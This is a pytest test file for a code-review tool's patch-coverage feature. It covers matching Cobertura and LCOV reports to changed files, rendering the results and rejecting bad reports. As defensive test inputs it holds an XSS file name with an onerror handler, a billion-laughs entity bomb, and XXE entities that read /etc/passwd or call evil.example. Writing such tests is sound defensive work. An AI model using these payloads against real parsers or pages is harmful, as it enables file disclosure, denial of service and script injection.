"""Coverage reports: what the tests reached of the added lines, and what is said of reports that can't be used."""

import json
import re
import time
from dataclasses import replace
from pathlib import Path

import jsonschema_rs
import pytest
from fake_github import FakeGitHub
from git_repository import Repository
from made_reviews import HEAD, change, edited_file, review_of
from made_trees import MadeTree
from rendered import Page
from test_action import Step

from omnireview.cli import run
from omnireview.cli.workflow import review_with_inputs
from omnireview.coverage import Coverage, FileCoverage, Report, Unmeasured
from omnireview.coverage.find import LARGEST, find_reports
from omnireview.coverage.measure import measure
from omnireview.diff import ChangedFile, FileStatus, diff_texts
from omnireview.errors import BadInput, Exit
from omnireview.page import html
from omnireview.pull_request import PullRequest
from omnireview.render import as_json, as_markdown
from omnireview.render.escape import is_hidden
from omnireview.terms import Aspect

REAL = Path(__file__).parent / "contract" / "coverage"
XML, LCOV = (REAL / "coverage.xml").read_bytes(), (REAL / "coverage.lcov").read_bytes()

QUEUE = b'''"""A queue."""


class Queue:
    """Holds requests in order."""

    def __init__(self, most: int) -> None:
        self.most = most
        self.waiting: list[str] = []

    def put(self, request: str) -> bool:
        """Add a request; False when the queue is full."""
        if len(self.waiting) >= self.most:
            # The caller tells the client to come back.
            return False
        self.waiting.append(request)
        return True

    def take(self) -> str | None:
        """Give the oldest request."""
        if not self.waiting:
            return None
        return self.waiting.pop(0)
'''
"""The source that the reports of tests/contract/coverage were made of."""
UNUSED = b'"""Nothing imports this."""\n\n\ndef close() -> None:\n    print("closed")\n'
TEST = b"def test_put() -> None:\n    assert True\n"


def added(path: str, text: bytes) -> ChangedFile:
    return ChangedFile(path, None, FileStatus.ADDED, hunks=diff_texts(b"", text))


def pull_of(files: dict[str, bytes], *others: str) -> PullRequest:
    """A change that adds files to a repository of these and others."""
    tree = MadeTree({**files, **dict.fromkeys(others, b"x = 1\n")})
    return replace(change(*(added(path, text) for path, text in files.items())), head_tree=tree)


def cobertura(lines: dict[str, dict[int, int]], *sources: str) -> bytes:
    classes = "".join(
        f'<class name="x" filename="{name}"><methods/><lines>'
        + "".join(f'<line number="{number}" hits="{hits}"/>' for number, hits in of_file.items())
        + "</lines></class>"
        for name, of_file in lines.items()
    )
    roots = "".join(f"<source>{source}</source>" for source in sources)
    packages = f"<packages><package><classes>{classes}</classes></package></packages>"
    return f"<coverage><sources>{roots}</sources>{packages}</coverage>".encode()


def measured(data: bytes, pull: PullRequest) -> Coverage:
    return measure([Report("coverage.xml", data)], pull)


@pytest.mark.parametrize("data", [XML, LCOV, b"\xef\xbb\xbf" + LCOV, LCOV.replace(b"\n", b"\r\n")])
def test_what_coverage_py_writes_is_read_in_both_formats(data: bytes) -> None:
    pull = pull_of({"src/relay/queue.py": QUEUE, "src/relay/unused.py": UNUSED, "tests/test_queue.py": TEST})
    assert measured(data, pull) == Coverage(
        (
            FileCoverage("src/relay/queue.py", 11, 13, ((15, 15), (22, 22))),
            FileCoverage("src/relay/unused.py", 0, 2, ((4, 5),)),
        )
    )


def test_only_added_lines_count_and_a_range_spans_none_that_were_there() -> None:
    old = "def a():\n    return 1\n\n\ndef b():\n    return 2\n"
    new = "def a():\n    x = 1\n\n    return x\n\n\ndef b():\n    return 3\n"
    file = edited_file("a.py", old, new)
    lines = {1: 1, 2: 0, 4: 0, 7: 1, 8: 0}
    assert sorted(file.added & set(lines)) == [2, 4, 8]
    pull = change(file)
    found = measured(cobertura({"a.py": lines}), pull)
    assert found.files == (FileCoverage("a.py", 0, 3, ((2, 4), (8, 8))),)


@pytest.mark.parametrize(
    ("name", "sources", "meant"),
    [
        ("pkg/a.py", ["/w/src"], "src/pkg/a.py"),
        ("a.py", ["/w/src/pkg"], "src/pkg/a.py"),
        ("src/pkg/a.py", ["."], "src/pkg/a.py"),
        ("./src/pkg/a.py", [], "src/pkg/a.py"),
        ("/home/runner/work/x/x/src/pkg/a.py", ["/elsewhere"], "src/pkg/a.py"),
        ("D:\\w\\src\\pkg\\a.py", [], "src/pkg/a.py"),
        ("pkg/a.py", ["/w/tests", "/w/src"], "src/pkg/a.py"),
        ("../src/pkg/a.py", ["/w/tests"], "src/pkg/a.py"),
        ("pkg/a.py", [], "src/pkg/a.py"),
        # The name is that of a file that the change leaves alone, or of several.
        ("a.py", ["/w/src/other"], None),
        ("a.py", [], None),
        ("/w/deep/other/a.py", [], None),
        ("b.py", ["/w/src/pkg"], None),
    ],
)
def test_a_file_of_the_report_is_the_one_file_that_its_name_can_mean(
    name: str, sources: list[str], meant: str | None
) -> None:
    pull = pull_of({"src/pkg/a.py": b"x = 1\n"}, "src/other/a.py", "b.py", "deep/other/a.py")
    found = measured(cobertura({name: {1: 1}}, *sources), pull)
    if meant:
        assert found == Coverage((FileCoverage(meant, 1, 1, ()),))
    else:
        assert found == Coverage((), (Unmeasured("src/pkg/a.py", "not in the coverage file"),))


def test_a_file_at_the_top_is_not_taken_for_one_below() -> None:
    pull = pull_of({"setup_it.py": b"x = 1\n"}, "tools/setup_it.py")
    found = measured(cobertura({"/w/setup_it.py": {1: 1}, "/w/tools/setup_it.py": {1: 0}}), pull)
    assert found.files == (FileCoverage("setup_it.py", 1, 1, ()),)


def test_two_files_that_may_be_it_are_a_doubt_and_no_number() -> None:
    pull = pull_of({"a.py": b"x = 1\n"})
    found = measured(cobertura({"/w/a.py": {1: 1}, "/usr/lib/python3/a.py": {1: 0}}), pull)
    assert found == Coverage((), (Unmeasured("a.py", "several files of the coverage file may be it"),))


def test_several_reports_are_taken_together() -> None:
    pull = pull_of({"a.py": b"x = 1\ny = 2\nz = 3\n"})
    reports = [
        Report("one", cobertura({"a.py": {1: 1, 2: 0, 3: 0}}, "/w")),
        Report("two", b"SF:/other/a.py\nDA:2,4,checksum\nDA:3,0\nend_of_record\n"),
    ]
    assert measure(reports, pull).files == (FileCoverage("a.py", 2, 3, ((3, 3),)),)


@pytest.mark.parametrize("lines", [{1: 1, 2: 1}, {1: 1, 3: 0}, {1: 1, 40: 1}])
def test_a_report_of_another_version_of_the_file_gives_no_number(lines: dict[int, int]) -> None:
    # A blank line, a comment, and a line behind the end: nothing there can be executed.
    pull = pull_of({"a.py": b"x = 1\n\n# y\nz = 2\n"})
    found = measured(cobertura({"a.py": lines}), pull)
    assert found == Coverage((), (Unmeasured("a.py", "the coverage file is of another version of it"),))


def test_what_is_missing_is_named_only_where_tests_are_expected_to_reach() -> None:
    files = dict.fromkeys(("src/a.py", "docs/conf.py", "examples/b.py", "tests/test_a.py", "c.cpp"), b"x = 1\n")
    found = measured(cobertura({"c.cpp": {1: 0}}), pull_of(files))
    assert found.files == (FileCoverage("c.cpp", 0, 1, ((1, 1),)),)
    assert [each.path for each in found.unmeasured] == ["src/a.py"]


def test_the_report_of_a_run_that_reached_nothing_is_a_report() -> None:
    found = measured(b"<coverage line-rate='0'><packages/></coverage>", pull_of({"a.py": b"x = 1\n"}))
    assert found.words == "no patch coverage: 1 file not measured"


@pytest.mark.parametrize(
    ("covered", "words"),
    [
        (50, "patch coverage 83% (50 of 60 lines)"),
        (59, "patch coverage 98% (59 of 60 lines)"),
        (60, "patch coverage 100% (60 of 60 lines)"),
    ],
)
def test_the_note_says_all_only_when_it_is_all(covered: int, words: str) -> None:
    assert Coverage((FileCoverage("a.py", covered, 60, ((1, 1),)),)).words == words


def test_the_testing_row_tells_it_and_no_score_moves() -> None:
    coverage = Coverage((FileCoverage("engine/worker.py", 50, 60, ((3, 5),)),))
    plain, told = review_of(), review_of(coverage=coverage)
    assert told.scorecard.aspects[Aspect.TESTING].note.endswith("; patch coverage 83% (50 of 60 lines)")
    assert {row.score for row in told.scorecard.aspects.values()} == {
        row.score for row in plain.scorecard.aspects.values()
    }
    assert told.scorecard.overall == plain.scorecard.overall
    assert (told.verdict, told.failed) == (plain.verdict, plain.failed)


FOLDED = Coverage(
    (
        FileCoverage("engine/worker.py", 4, 5, ((7, 7),)),
        FileCoverage("engine/stage.py", 0, 9, tuple((number, number + 1) for number in range(1, 99, 3))),
    ),
    (Unmeasured("engine/late.py", "not in the coverage file"),),
)


def test_the_summary_shows_each_file_with_links_to_the_lines_that_no_test_reached() -> None:
    page = Page(as_markdown.summary_body(review_of(coverage=FOLDED), "review"))
    assert ["engine/worker.py", "80% (4 of 5)", "7"] in page.rows
    assert ["engine/late.py", "unknown", "not in the coverage file"] in page.rows
    files = [row[0] for row in page.rows if row[0].startswith("engine/")]
    assert files == ["engine/stage.py", "engine/worker.py", "engine/late.py"]
    (stage,) = (row for row in page.rows if row[0] == "engine/stage.py")
    assert stage[2].startswith("1-2, 4-5, ")
    assert stage[2].endswith("21 more ranges")
    assert f"https://github.com/omni/engine/blob/{HEAD}/engine/stage.py#L4-L5" in page.links
    assert "Patch coverage 28% (4 of 14 lines), 1 file not measured" in page.text


def test_without_a_report_nothing_is_said_of_coverage() -> None:
    for text in (as_markdown.report(review_of()), html(review_of())):
        assert "coverage" not in text.casefold()
    assert as_json.document(review_of())["coverage"] is None


@pytest.mark.parametrize(
    "path",
    ["a|b.py", "<img src=x onerror=alert(1)>.py", "@octocat/#12.py", "`x`.py", "a\u202e\x1b[31m.py", "[x](y).py"],
)
def test_a_hostile_path_stays_text(path: str) -> None:
    coverage = Coverage(
        (FileCoverage(path, 0, 1, ((1, 1),)),), (Unmeasured(f"z{path}", "not in the coverage file"),)
    )
    review = review_of(coverage=coverage)
    body = as_markdown.summary_body(review, "review")
    page = Page(body)
    assert page.pings == []
    assert page.tags["img"] == 0
    assert {len(row) for row in page.rows if row[1:] and "unknown" in row[1]} == {3}
    assert not any(map(is_hidden, body.replace("\n", "")))
    assert "<img" not in html(review)


def test_the_json_fits_its_schema_and_the_page_shows_the_same() -> None:
    review = review_of(coverage=FOLDED)
    document = json.loads(as_json.text(review))
    jsonschema_rs.Draft202012Validator(as_json.schema()).validate(document)
    told = document["coverage"]
    assert (told["covered"], told["lines"], told["files"][0]["uncovered"]) == (4, 14, [[7, 7]])
    written = html(review)
    assert "80% (4 of 5)" in written
    assert f"/blob/{HEAD}/engine/stage.py#L4-L5" in written


LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 10))


@pytest.mark.parametrize(
    ("data", "word"),
    [
        (b"", "neither XML nor a tracefile"),
        (b"hello\n", "neither XML nor a tracefile"),
        (b"<html><body/></html>", "its root is not `<coverage>`"),
        (b"<report name='jacoco'/>", "its root is not `<coverage>`"),
        (b"<coverage generated='1'><project/></coverage>", "neither packages nor classes"),
        (b"<coverage><packages>", "line 1 is no XML"),
        (b"<coverage><class filename='a.py'><line number='x' hits='1'/></class></coverage>", "has no numbers"),
        (b"<coverage><class filename='a.py'><line number='1'/></class></coverage>", "has no numbers"),
        (b"<?xml version='1.0' encoding='klingon'?><coverage/>", "its encoding is not known"),
        (b"<coverage>" + b"<a>" * 60, "nested more than 50 deep"),
        (b'<!DOCTYPE c [<!ENTITY l0 "ha">' + LAUGHS + b"]><coverage>&l9;</coverage>", "declares an entity"),
        (b'<!DOCTYPE c [<!ENTITY a SYSTEM "file:///etc/passwd">]><coverage>&a;</coverage>', "declares an entity"),
        (b'<!DOCTYPE c [<!ENTITY % a SYSTEM "http://evil.example/">%a;]><coverage/>', "declares an entity"),
        (b"SF:a.py\nDA:1\nend_of_record\n", "line 2 is no `DA:<line>,<count>`"),
        (b"SF:a.py\nDA:1,1\n", "`end_of_record` is missing"),
    ],
)
def test_a_report_that_cannot_be_used_is_refused_with_what_where_and_what_to_do(data: bytes, word: str) -> None:
    with pytest.raises(BadInput) as caught:
        measured(data, pull_of({"a.py": b"x = 1\n"}))
    assert word in caught.value.what
    assert caught.value.where == "coverage.xml"
    assert "coverage xml" in caught.value.mend


def test_the_document_type_of_real_reports_is_let_pass_and_not_fetched() -> None:
    head = b'<?xml version="1.0"?>\n<!DOCTYPE coverage SYSTEM "http://cobertura.sourceforge.net/xml/coverage-04.dtd">\n'
    found = measured(head + cobertura({"a.py": {1: 1}}), pull_of({"a.py": b"x = 1\n"}))
    assert found.covered == 1


def test_a_negative_count_is_no_hit_and_a_line_told_twice_is_hit_once() -> None:
    lines = b'<line number="1" hits="-1"/><line number="2" hits="0"/><line number="2" hits="3"/>'
    data = b'<coverage><class filename="a.py">' + lines + b"</class></coverage>"
    assert measured(data, pull_of({"a.py": b"x = 1\ny = 2\n"})).files == (FileCoverage("a.py", 1, 2, ((1, 1),)),)


def test_a_flood_of_names_is_refused_in_little_time() -> None:
    began = time.monotonic()
    with pytest.raises(BadInput, match="of its files have the names of changed ones"):
        measured(
            b"".join(b"SF:%d/a.py\nend_of_record\n" % n for n in range(20_000)), pull_of({"a.py": b"x = 1\n"})
        )
    assert time.monotonic() - began < 10


def test_names_and_globs_find_the_files_below_a_folder(tmp_path: Path) -> None:
    for name in ("one/coverage.xml", "two/coverage.xml", "two/deep/more [1].info"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_bytes(name.encode())
    (tmp_path / "loop").symlink_to(tmp_path)

    def found(*names: str) -> list[str]:
        return [report.name for report in find_reports(names, tmp_path)]

    assert found("**/coverage.xml", "one/coverage.xml") == ["one/coverage.xml", "two/coverage.xml"]
    assert found("two/deep/more [1].info") == ["two/deep/more [1].info"]
    assert found(str(tmp_path / "t*" / "*.xml")) == ["two/coverage.xml"]
    for name, word in (("*.info", "No coverage file fits"), ("x.xml", "No such file"), ("two", "regular file")):
        with pytest.raises(BadInput) as caught:
            find_reports([name], tmp_path)
        assert word in caught.value.what
        assert caught.value.where == name


def test_reports_that_are_too_large_together_are_refused(tmp_path: Path) -> None:
    with (tmp_path / "huge.xml").open("wb") as file:
        file.truncate(LARGEST + 1)
    with pytest.raises(BadInput, match="larger than 64 MB together"):
        find_reports(["huge.xml"], tmp_path)


@pytest.fixture
def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Repository:
    made = Repository(tmp_path / "work")
    made.commit({"README.md": b"# Relay\n"})
    made.commit({"src/relay/queue.py": QUEUE, "tests/test_queue.py": TEST})
    monkeypatch.chdir(made.root)
    return made


@pytest.mark.usefixtures("repository")
def test_check_tells_patch_coverage(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "coverage.xml").write_bytes(XML)
    code = run(["check", "HEAD~1..HEAD", "--format=markdown", "--coverage-file=../*.xml"])
    page = Page(capsys.readouterr().out)
    assert code == Exit.PASS
    assert ["src/relay/queue.py", "84% (11 of 13)", "15, 22"] in page.rows
    (testing,) = (row for row in page.rows if row[0] == "Testing")
    assert testing[2].endswith("patch coverage 84% (11 of 13 lines)")


@pytest.mark.parametrize(
    ("arguments", "word"),
    [
        (["--coverage-file=none.xml"], "The coverage file can't be read"),
        (["--coverage-file=README.md"], "neither XML nor a tracefile"),
        (["--fix", "--coverage-file=README.md"], "`--fix` moves lines"),
    ],
)
def test_check_refuses_what_it_can_make_nothing_of(
    repository: Repository, arguments: list[str], word: str, capsys: pytest.CaptureFixture[str]
) -> None:
    repository.write({"src/relay/queue.py": QUEUE + b"\n\nMOST = 5\n"})
    assert run(["check", *arguments]) == Exit.USER_SIDE
    assert word in capsys.readouterr().err


def test_the_action_reads_reports_below_the_workspace(
    tmp_path: Path, fake_github: FakeGitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    step = Step(tmp_path, fake_github)
    step.fake.files(old={}, new={"src/relay/queue.py": QUEUE})
    monkeypatch.setenv("GITHUB_WORKSPACE", step.env["GITHUB_WORKSPACE"])
    report = Path(step.env["GITHUB_WORKSPACE"], "coverage", "coverage.lcov")
    report.parent.mkdir(parents=True)
    report.write_bytes(LCOV)
    step.env["INPUT_COVERAGE-FILE"] = "coverage/*.lcov"
    step.run(review_with_inputs)
    (summary,) = step.fake.comments
    assert "Patch coverage 84% (11 of 13 lines)" in summary["body"]


def test_the_action_says_loudly_that_the_report_is_not_there(tmp_path: Path, fake_github: FakeGitHub) -> None:
    step = Step(tmp_path, fake_github)
    step.env["INPUT_COVERAGE-FILE"] = "coverage/*.lcov"
    assert step.run(review_with_inputs) == Exit.USER_SIDE
    assert any(re.match(r"::error .*No coverage file fits this", command) for command in step.commands())
    assert step.writes() == []
